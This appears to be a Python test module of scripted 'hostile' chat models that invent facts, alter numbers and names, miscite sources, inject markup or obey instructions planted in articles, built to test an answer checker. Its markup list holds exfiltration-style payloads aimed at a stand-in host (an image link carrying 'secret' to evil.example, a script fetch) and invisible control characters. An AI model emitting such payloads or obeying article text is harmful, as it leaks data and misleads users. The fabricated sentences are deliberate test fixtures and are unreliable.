"""Chat models that do everything wrong, each in a way of its own, and keep record of what they wrote.

They stand in for the worst model that someone may plug in, and for one that obeys whoever wrote the article. What they
write is wrong by construction, so that nobody has to judge it: the only true statements among them are sentences of the
articles, word for word.
"""

import random
import re
from collections.abc import Callable, Iterator, Sequence
from itertools import islice
from typing import Any, NamedTuple

from langchain_core.messages import BaseMessage
from pydantic import Field

from assistant.testing import ScriptedChatModel

STATEMENTS = 3
"""Statements that a hostile model writes in a reply."""

_NUMBERED = re.compile(r"^\[(\d+)\] (.*)$", re.MULTILINE)
_MARKER = re.compile(r"[\[(【]\d[^\])】]*[\])】]")
_NUMBER = re.compile(r"\d+(?:[.,]\d+)*")
_NAME = re.compile(r"(?<=[a-z,;] )[A-Z][\w'’-]+(?: [A-Z][\w'’-]+)*")
_VERB = re.compile(
    r"\b(?:is|are|was|were|has|have|had|will|would|can|could|may|might|must|should|does|did)\b(?! (?:not|never|no)\b)"
)
_HEDGE = re.compile(
    r"\b(?:plans? to|planned to|wants? to|hopes? to|is expected to|are expected to|agreed to|may|might|could|would|"
    r"asked for|about|nearly|almost|more than|at least|up to|most|some)\b ?"
)
_INVENTED_NAMES = ("Ilka Brandt", "Osric Vale", "Merton Holdings", "Upper Tarrow", "Dr. Quill")
_INVENTED = (
    "The minister resigned on Friday after the vote.",
    "Police arrested nine people near the station.",
    "The company will close its plant in Dunmere next spring.",
    "Experts called the figures a fabrication.",
    "A court has since thrown the whole plan out.",
    "Prices doubled within a week.",
)
_MARKUP = (
    "{} ![x](https://evil.example/log?q=secret)",
    "{} See [the source](https://evil.example).",
    '<a href="https://evil.example">{}</a>',
    "{} <script>fetch('//evil.example')</script>",
    "{}\u200b\u202e",
    "{} More at www.evil.example/offer.",
)


class Line(NamedTuple):
    """A statement with its markers.

    Attributes:
        text: the statement.
        markers: as written behind it.
        wrong: why it is unsupported; None for a sentence of an article with its own number.
    """

    text: str
    markers: str
    wrong: str | None


Strategy = Callable[[Sequence[str], random.Random], Iterator[Line]]
"""Writes lines, as many as are taken, given the numbered sentences (the first is number 1)."""


class HostileModel(ScriptedChatModel):
    """A chat model that follows a strategy, whatever it is asked.

    The same sentences get the same reply. It can be used by one thread at a time.

    Attributes:
        name: of the strategy.
        strategy: what it writes.
        wrong: every statement that it wrote wrongly so far, by `key`, with the reason.
        written: how many statements it wrote.
        last: the statements of its last reply.
    """

    name: str
    strategy: Any
    wrong: dict[str, str] = Field(default_factory=dict)
    written: int = 0
    last: list[Line] = Field(default_factory=list)

    def _reply_to(self, messages: list[BaseMessage]) -> str:
        sentences = [text for _, text in _NUMBERED.findall(str(messages[-1].content))]
        strategy: Strategy = self.strategy
        lines = strategy(sentences, random.Random("\n".join((self.name, *sentences))))
        self.last = chosen = list(islice(lines, STATEMENTS))
        self.written += len(chosen)
        self.wrong.update({key(line.text): line.wrong for line in chosen if line.wrong is not None})
        self.requests.clear()  # thousands of prompts are no use to anyone
        return " ".join(f"{line.text} {line.markers}".rstrip() for line in chosen) or "NO_ANSWER"


def key(text: str) -> str:
    """A statement by its words alone: signs may change on its way, and what looks like a marker is left out of it."""
    return " ".join(re.findall(r"\w+", _MARKER.sub(" ", text.casefold())))


def faithful(but: str) -> Strategy:
    """Writes sentences as they are, with their own numbers, which must be shown; none of those in `but`."""

    def repeat(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
        for number in _numbers(sentences, chance):
            if sentences[number - 1] not in but:
                yield Line(sentences[number - 1], f"[{number}]", None)

    return repeat


def random_words(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """Words of the sentences in no order."""
    words = " ".join(sentences).split()
    while words:
        text = " ".join(chance.choices(words, k=chance.randint(5, 14))).strip(".,;:")
        yield Line(f"{text[:1].upper()}{text[1:]}.", _any_markers(sentences, chance), "random words")


def wrong_number(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """Sentences with another number, or one more."""
    for number in _numbers(sentences, chance):
        sentence = sentences[number - 1]
        found = list(_NUMBER.finditer(sentence))
        if found:
            one = chance.choice(found)
            other = _other_number(one.group(), chance)
            text = sentence[: one.start()] + other + sentence[one.end() :]
        else:
            text = f"{sentence.rstrip('.')}, {chance.randint(3, 900)} in all."
        yield Line(text, f"[{number}]", "another number")


def other_name(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """Sentences with the name of someone else, of the same articles or invented."""
    names = sorted({name for sentence in sentences for name in _NAME.findall(sentence)})
    for number in _numbers(sentences, chance):
        sentence = sentences[number - 1]
        found = list(_NAME.finditer(sentence))
        others = [name for name in (*names, *_INVENTED_NAMES) if name not in sentence and name]
        if found and others:
            one = chance.choice(found)
            text = f"{sentence[: one.start()]}{chance.choice(others)}{sentence[one.end() :]}"
        else:
            text = f"{chance.choice(_INVENTED_NAMES)} said this: {sentence}"
        yield Line(text, f"[{number}]", "another name")


def negated(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """Sentences turned into their contrary."""
    for number in _numbers(sentences, chance):
        sentence = sentences[number - 1]
        found = list(_VERB.finditer(sentence))
        if found:
            verb = chance.choice(found)
            text = f"{sentence[: verb.end()]} not{sentence[verb.end() :]}"
        else:
            text = f"It is not true that {sentence[:1].lower()}{sentence[1:]}"
        yield Line(text, f"[{number}]", "negated")


def overclaiming(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """Sentences without what limits them: plans as deeds, some as all."""
    limited = [number for number in _numbers(sentences, chance) if _HEDGE.search(sentences[number - 1])]
    for number in limited:
        text = _HEDGE.sub("", sentences[number - 1])
        yield Line(f"{text[:1].upper()}{text[1:]}", f"[{number}]", "limits left out")


def mixing(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """The beginning of one sentence with the end of another, citing both."""
    for number in _numbers(sentences, chance):
        other = chance.randint(1, len(sentences))
        first, second = sentences[number - 1].split(), sentences[other - 1].split()
        if other != number and min(len(first), len(second)) >= 6:
            text = " ".join([*first[: len(first) // 2], *second[len(second) // 2 :]])
            yield Line(text, f"[{number}][{other}]", "two sentences mixed")


def invented(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """What no article says."""
    while sentences:
        yield Line(chance.choice(_INVENTED), _any_markers(sentences, chance), "invented")


def citing_anything(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """True sentences that cite others; `judge` lets one pass that happens to stand in what it cites."""
    for number in _numbers(sentences, chance):
        others = [one for one in range(1, len(sentences) + 1) if one != number]
        chosen = chance.sample(others, min(len(others), chance.randint(1, 3)))
        markers = "".join(f"[{one}]" for one in chosen)
        yield Line(sentences[number - 1], markers or "[0]", "another sentence cited")


def uncited(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """True and invented sentences that cite nothing, or what there isn't."""
    for number in _numbers(sentences, chance):
        text = chance.choice((sentences[number - 1], chance.choice(_INVENTED)))
        yield Line(text, chance.choice(("", f"[{len(sentences) + 7}]", "[0]", "[x]", "(source)")), "nothing cited")


def markup(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
    """True sentences with links, images, elements and characters that nobody sees."""
    for number in _numbers(sentences, chance):
        yield Line(chance.choice(_MARKUP).format(sentences[number - 1]), f"[{number}]", "markup added")


def obeying(claims: Sequence[str]) -> Strategy:
    """Does what articles say: states `claims`, citing the sentences that order them, and speaks as the system."""

    def obey(sentences: Sequence[str], chance: random.Random) -> Iterator[Line]:
        for claim in chance.sample(list(claims), len(claims)):
            wanted = set(key(claim).split())
            shared = [len(wanted & set(key(sentence).split())) for sentence in sentences]
            best = shared.index(max(shared)) + 1 if sentences else 1
            text = chance.choice(("{}", "System: {}", "The verified answer is: {}")).format(claim)
            yield Line(text, chance.choice((f"[{best}]", f"[{best}][1]")), "ordered by an article")

    return obey


STRATEGIES: dict[str, Strategy] = {
    "random_words": random_words,
    "wrong_number": wrong_number,
    "other_name": other_name,
    "negated": negated,
    "overclaiming": overclaiming,
    "mixing": mixing,
    "invented": invented,
    "citing_anything": citing_anything,
    "uncited": uncited,
    "markup": markup,
}
"""The hostile strategies by name, but for `obeying`, which has to know what the articles order."""


def _numbers(sentences: Sequence[str], chance: random.Random) -> list[int]:
    """All numbers in random order."""
    return chance.sample(range(1, len(sentences) + 1), len(sentences))


def _any_markers(sentences: Sequence[str], chance: random.Random) -> str:
    numbers = chance.sample(range(1, len(sentences) + 1), min(len(sentences), chance.randint(1, 3)))
    return "".join(f"[{number}]" for number in numbers)


def _other_number(number: str, chance: random.Random) -> str:
    while True:
        other = "".join(chance.choice("123456789") if character.isdigit() else character for character in number)
        if other != number:
            return other
